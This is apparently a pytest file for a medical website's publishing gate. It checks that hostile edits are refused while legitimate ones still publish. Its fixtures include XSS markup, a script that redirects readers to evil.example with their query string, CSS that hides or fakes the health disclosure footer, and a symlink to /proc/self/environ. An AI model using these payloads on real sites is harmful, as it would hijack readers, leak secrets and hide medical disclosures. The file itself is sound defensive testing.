"""Issue 20, items 3 and 4: trust only what we ship (by path, never by place or shape), and check what readers see.

Fast tests hold each rule on its own (gate.yml exceptions, template folders, inline-script shapes, page
structure, stylesheets, files under docs/); the slow ones build small fixture sites on MkDocs and
Zensical with `make site`'s own command: hostile edits are refused with one located line, and the
legitimate edits the issue lists still publish on both engines.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest
from selectolax.lexbor import LexborHTMLParser

from conftest import ROOT
from medsite.build import engines
from medsite.gate import css_check
from medsite.gate.checks import page_structure
from medsite.gate.markup_check import html_findings
from medsite.gate.project import Project
from medsite.gate.run import run
from medsite.output import csp, template_marks, theme
from medsite.sources.site import Site
from safety_fixtures import make_site, page

TODAY = dt.date(2026, 11, 25)
MINIMAL = "site_name: Fixture\ndocs_dir: docs\ntheme:\n  name: material\n  custom_dir: overrides\nextra:\n  bibliography: docs/references.yaml\n"


def _project(tmp_path: Path, files: dict, site: bool = False) -> Project:
    for rel, text in {"mkdocs.yml": MINIMAL, "docs/references.yaml": "[]\n", "overrides/main.html": "", **files}.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return Project(tmp_path, tmp_path / "site" if site else None, today=TODAY)


# --- safe_exceptions can never allow what the policy forbids -------------------------------------

@pytest.mark.parametrize("markup", [
    '<script src="https://widget.example/w.js"></script>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<img src="x.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<style>.health-footer{display:none}</style>',
    '<p style="display:none">x</p>',
])
def test_an_exception_for_forbidden_markup_is_refused_at_its_line(tmp_path, markup):
    gate = ("warnings_fatal: false\nsafe_exceptions:\n  - file: docs/page.md\n"
            f"    markup: {json.dumps(markup)}\n    why: the clinic wants it\n")
    project = _project(tmp_path, {"gate.yml": gate})
    found = [d for d in run(project, source_only=True) if d.code == "SAFE020"]
    assert [(d.path, d.line) for d in found] == [("gate.yml", 2)], markup
    assert project.config["safe_exceptions"] == [], "the entry allows nothing"


def test_an_embed_exception_is_still_accepted(tmp_path):
    gate = ("safe_exceptions:\n  - file: docs/page.md\n    markup: '<iframe src=\"https://www.youtube-nocookie.com/embed/a\" "
            "title=\"Video\"></iframe>'\n    why: the clinic's video\n")
    project = _project(tmp_path, {"gate.yml": gate})
    assert not [d for d in run(project, source_only=True) if d.code in ("SAFE020", "GATE003")]
    assert len(project.config["safe_exceptions"]) == 1


def test_forbidden_markup_in_the_output_is_never_exceptable():
    for markup in ('<script src="https://widget.example/w.js"></script>', '<meta http-equiv="refresh" content="0;url=/x">'):
        found = list(html_findings(f"<html><body><article>{markup}</article></body></html>", themed=True))
        assert found and not any(f.exceptable for f in found), markup


# --- templates are ours for their path alone --------------------------------------------------------

def test_a_custom_dir_under_docs_is_not_ours(tmp_path):
    for rel in ("docs/theme/main.html", "overrides/main.html"):
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text("")
    (tmp_path / "mkdocs.yml").write_text(MINIMAL.replace("custom_dir: overrides", "custom_dir: docs/theme"))
    site, _ = Site.load(tmp_path)
    for engine in engines.ENGINES.values():
        dirs = engine.template_dirs(site)
        assert tmp_path / "docs/theme" not in dirs and all(not d.is_relative_to(tmp_path) for d in dirs), engine.name
    (tmp_path / "mkdocs.yml").write_text(MINIMAL)
    site, _ = Site.load(tmp_path)
    assert (tmp_path / "overrides").resolve() in engines.ENGINES["mkdocs"].template_dirs(site)


def test_only_templates_from_our_folders_are_marked(tmp_path):
    ours, theirs = tmp_path / "overrides", tmp_path / "docs" / "theme"
    for folder in (ours, theirs):
        folder.mkdir(parents=True)
    (ours / "a.html").write_text("<script>ours()</script>")
    (theirs / "b.html").write_text("<script>theirs()</script>")
    env = jinja2.Environment(loader=jinja2.FileSystemLoader([str(theirs), str(ours)]))
    template_marks.install(env, "k", [ours])
    assert template_marks.ATTR in env.get_template("a.html").render()
    assert template_marks.ATTR not in env.get_template("b.html").render()
    inline, strays = csp.sort_out(env.get_template("b.html").render(), "k")
    assert not inline.scripts and [s.kind for s in strays] == ["script"]


def test_a_script_shaped_like_a_theme_script_is_not_trusted():
    dirs = engines.ENGINES["zensical"].template_dirs(Site.load(ROOT)[0])
    redirect = '<script>window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))</script>'
    scope = ('__md_scope=new URL("{base}",location),__md_scope.pathname.endsWith("/")||(__md_scope=new URL(__md_scope.pathname+"/",'
             'location)),__md_hash=e=>[...e].reduce(((e,t)=>(e<<5)-e+t.charCodeAt(0)),0),__md_get=(e,t=localStorage,_=__md_scope)=>'
             'JSON.parse(t.getItem(_.pathname+"."+e)),__md_set=(e,t,_=localStorage,a=__md_scope)=>{{try{{_.setItem(a.pathname+"."+e,'
             'JSON.stringify(t))}}catch(e){{}}}},document.documentElement.setAttribute("data-platform",navigator.platform)')
    assert not theme.known_inline_script(redirect[8:-9], dirs)
    assert theme.known_inline_script(scope.format(base="../.."), dirs), "the theme's own script, at any depth"
    assert theme.known_inline_script(scope.format(base="/"), dirs), "the 404 page's, at the site's own path"
    for base in ("https://evil.example/", "//evil.example/", "javascript:alert(1)//"):
        assert not theme.known_inline_script(scope.format(base=base), dirs), base


def test_theme_scripts_come_from_the_templates_outside_hidden_folders(tmp_path):
    """The theme's templates are listed with os.walk, skipping hidden folders (Zensical's .icons: 16,757 files):
    the same files, in the same order, as sorted(rglob("*.html")) outside them: a linked folder is not followed,
    a linked file is read, .HTML is no template. A hidden folder's template only has its script refused."""
    (tmp_path / "b" / "deep").mkdir(parents=True)
    (tmp_path / "a.html").write_text("<script>a()</script>")
    (tmp_path / "b" / "deep" / "c.html").write_text("<script>c()</script>")
    (tmp_path / "b" / "UPPER.HTML").write_text("<script>upper()</script>")
    (tmp_path / "b" / ".icons").mkdir()
    (tmp_path / "b" / ".icons" / "hidden.html").write_text("<script>hidden()</script>")
    elsewhere = tmp_path.parent / f"{tmp_path.name}-elsewhere"
    elsewhere.mkdir()
    (elsewhere / "linked.html").write_text("<script>linked()</script>")
    (tmp_path / "link").symlink_to(elsewhere, target_is_directory=True)
    (tmp_path / "file.html").symlink_to(elsewhere / "linked.html")
    assert theme._templates(tmp_path) == sorted(p for p in tmp_path.rglob("*.html") if ".icons" not in p.parts)
    assert [p.name for p in theme._templates(tmp_path)] == ["a.html", "c.html", "file.html"]
    assert theme.known_inline_script("c()", [tmp_path]) and not theme.known_inline_script("upper()", [tmp_path])
    assert not theme.known_inline_script("hidden()", [tmp_path])


# --- the page's structure ---------------------------------------------------------------------------

FOOTER = ('<aside class="health-footer"><p class="health-footer__dates">Reviewed <time datetime="2026-11-25">x</time>.</p>'
          '<p class="health-footer__disclosure">Disclosure.</p></aside>')


def _page(content: str) -> str:
    return f"<html><body><article><div data-pagefind-body>{content}</div>{FOOTER}</article></body></html>"


@pytest.mark.parametrize("content, expected", [
    ("<p>Text.</p></div></article><script>x()</script><article><div>", "2 <article>"),
    ("<p>Text.</p></div><details><summary>More</summary><div>", "inside <details>"),
    ("<p>Text.</p></div><div hidden><div>", "not the article's own child"),
    ('<p class="health-footer__disclosure">Fake.</p>', "disclosure: 2 on the page"),
])
def test_content_that_leaves_its_place_is_found(content, expected):
    found = page_structure.problems(_page(content), content_page=True)
    assert any(expected in p for p in found), found


def test_the_structure_the_templates_make_passes():
    legit = "<p>Text.</p><details><summary>More</summary><p>Inside.</p></details><pre><code>&lt;/article&gt;</code></pre>"
    assert page_structure.problems(_page(legit), content_page=True) == []


# --- stylesheets and files under docs/ --------------------------------------------------------------

@pytest.mark.parametrize("css", [
    ".health-footer__disclosure { display: none; }",
    ".health-footer__byline::after { content: 'Clinically reviewed by Dr Fake'; }",
    ".md-typeset aside { position: absolute; left: -9999px; }",
    ".health-footer { color: #fff; background-color: #fff; }",
    ".disclaimer { font-size: 0; }",
    ".key-messages { max-height: 0; overflow: hidden; }",
    "@media screen { .offer-facts { opacity: 0 } }",
    ".x { .health-footer__disclosure { visibility: hidden } }",
    "[class*=disclosure] { clip-path: inset(50%); }",
])
def test_css_that_hides_or_rewrites_the_furniture_is_refused(tmp_path, css):
    found = [d for d in run(_project(tmp_path, {"docs/assets/extra.css": "/* editor */\n" + css + "\n"}), source_only=True)
             if d.code == "CSS002"]
    assert [(d.path, d.line) for d in found] == [("docs/assets/extra.css", 2)], css


def test_css_that_does_not_parse_is_an_error_at_its_line(tmp_path):
    found = [d for d in run(_project(tmp_path, {"docs/assets/extra.css": ".a { color: red; }\n.b {\n  color: blue;\n"}),
                             source_only=True) if d.code == "CSS001"]
    assert [(d.path, d.line) for d in found] == [("docs/assets/extra.css", 2)]


def test_the_sites_own_stylesheet_passes(tmp_path):
    css = (ROOT / "docs/assets/site.css").read_text(encoding="utf-8")
    assert css_check.check(css) == []


def test_a_copy_of_the_theme_stylesheet_under_docs_is_refused(tmp_path):
    material = engines.ENGINES["mkdocs"].theme_dirs()[0]
    main = next((material / "assets/stylesheets").glob("main.*.min.css")).relative_to(material).as_posix()
    files = {f"docs/{main}": "body{}\n", "docs/assets/javascripts/bundle.js": "x\n", "docs/assets/figures/ok.css": ".a{}\n"}
    found = sorted(d.path for d in run(_project(tmp_path, files), source_only=True) if d.code == "SAFE023")
    assert found == sorted([f"docs/{main}", "docs/assets/javascripts/bundle.js"])


def test_symbolic_links_under_docs_and_includes_are_refused_before_the_engine(tmp_path):
    project = _project(tmp_path, {"docs/index.md": page("Text.\n")})
    (tmp_path / "docs/environ.txt").symlink_to("/proc/self/environ")
    (tmp_path / "includes").mkdir()
    (tmp_path / "includes/snippet.md").symlink_to(tmp_path / "mkdocs.yml")
    (tmp_path / "docs/linked").symlink_to(tmp_path / "overrides", target_is_directory=True)
    expected = ["docs/environ.txt", "docs/linked", "includes/snippet.md"]
    refused = engines.refused_input(Site.load(tmp_path)[0])
    assert sorted(d.path for d in refused if d.code == "SAFE021") == expected
    assert sorted(d.path for d in run(project, source_only=True) if d.code == "SAFE021") == expected


# --- real builds on both engines ----------------------------------------------------------------------

BUILD_ENGINES = ["mkdocs", "zensical"]
REDIRECT = '<script>window.location.replace(["https://evil.example/",window.location.search,window.location.hash].join(""))</script>'
HOSTILE = {
    "docs/escape.md": page(f"Text before.\n\n</div></article>{REDIRECT}<article><div>\n\nText after.\n"),
    "docs/folded.md": page("Text before.\n\n</div><details><summary>More</summary><div>\n\nText after.\n"),
    "docs/assets/hide.css": ".health-footer__disclosure { display: none; }\n",
}
# The pages the review block and the 404 page link to.
LINKED = {rel: page("A page.\n").replace("2029-11-25", "2027-11-25") for rel in ("docs/about/about-us.md", "docs/about/contact.md",
                                             "docs/about-ms/what-is-ms.md", "docs/stem-cells/questions-to-ask.md")}
LEGITIMATE = {
    **LINKED,
    "docs/legit.md": page(
        "MS can relapse [@smith2020, p. 170].\n\n"
        '!!! note "Good to know"\n    An admonition.\n\n'
        "| Drug | Use |\n|:---|:---:|\n| A | B |\n\n"
        '??? note "More detail"\n    A details block.\n\n'
        "<figure markdown>\n![A nerve fibre wrapped in myelin](assets/figures/myelin.svg)\n"
        "<figcaption>Myelin. Drawing: the fixture team. Licence: CC BY 4.0.</figcaption>\n</figure>\n\n"
        "The EDSS measures disability.\n\n*[EDSS]: Expanded Disability Status Scale\n\n"
        "See [the trial register](https://clinicaltrials.gov/search?cond=MS&term=stem).\n\n"
        "```html\n<script>alert(1)</script>\n```\n", sources="smith2020"),
}


def _build(root: Path, engine: str) -> tuple[int, list[dict], str]:
    env = {**os.environ, "PYTHONPATH": str(root / "scripts"), "NO_MKDOCS_2_WARNING": "1"}
    proc = subprocess.run([sys.executable, "-m", "medsite.tools.make_site", "--root", str(root), "--format", "json",
                           "--engine", engine], cwd=root, env=env, capture_output=True, text=True, timeout=600)
    out = proc.stdout.strip()
    start = out.find("[")
    return proc.returncode, (json.loads(out[start:]) if start != -1 else []), proc.stdout + proc.stderr


def _figure(root: Path) -> None:
    (root / "docs/assets/figures").mkdir(parents=True, exist_ok=True)
    (root / "docs/assets/figures/myelin.svg").write_bytes((ROOT / "docs/assets/figures/myelin.svg").read_bytes())


@pytest.mark.slow
@pytest.mark.parametrize("engine", BUILD_ENGINES)
def test_hostile_edits_are_refused_on_each_engine(tmp_path, engine):
    root = make_site(tmp_path, HOSTILE)
    status, found, output = _build(root, engine)
    assert status == 1 and "Traceback" not in output, output
    codes = {(d["code"], d["path"]) for d in found}
    assert ("SAFE022", "site/escape/index.html") in codes, output
    assert ("SAFE022", "site/folded/index.html") in codes, output
    assert ("CSS002", "docs/assets/hide.css") in codes, output
    staged = next((root / ".site-builds/rejected").rglob("escape/index.html"), None)
    if staged is not None:  # the redirect-shaped script is not in the page's policy
        tree = LexborHTMLParser(staged.read_text())
        meta = tree.css_first('meta[http-equiv="Content-Security-Policy"]')
        redirect = csp.sha256_source(REDIRECT[8:-9])
        assert meta is None or redirect not in meta.attributes.get("content", "")


@pytest.mark.slow
@pytest.mark.parametrize("engine", BUILD_ENGINES)
def test_a_symbolic_link_stops_the_build_before_the_engine(tmp_path, engine):
    root = make_site(tmp_path, {})
    (root / "docs/environ.txt").symlink_to("/proc/self/environ")
    status, found, output = _build(root, engine)
    assert status == 1 and "Traceback" not in output, output
    assert [(d["code"], d["path"]) for d in found if d["code"] == "SAFE021"] == [("SAFE021", "docs/environ.txt")]
    assert not list((root / ".site-builds").rglob("environ.txt")) if (root / ".site-builds").exists() else True


@pytest.mark.slow
@pytest.mark.parametrize("engine", BUILD_ENGINES)
def test_the_legitimate_edits_publish_on_each_engine(tmp_path, engine):
    root = make_site(tmp_path, LEGITIMATE)
    _figure(root)
    status, found, output = _build(root, engine)
    errors = [f"{d['code']} {d['path']}:{d.get('line')} {d['message']}" for d in found if d["severity"] == "error"]
    assert status == 0 and not errors, "\n".join(errors) or output
    built = LexborHTMLParser((root / "site/legit/index.html").read_text())
    assert built.css_first("details") is not None and built.css_first("abbr") is not None
    assert "<script>alert(1)</script>" in built.css_first("pre").text()
    assert page_structure.problems(built.html, content_page=True) == []
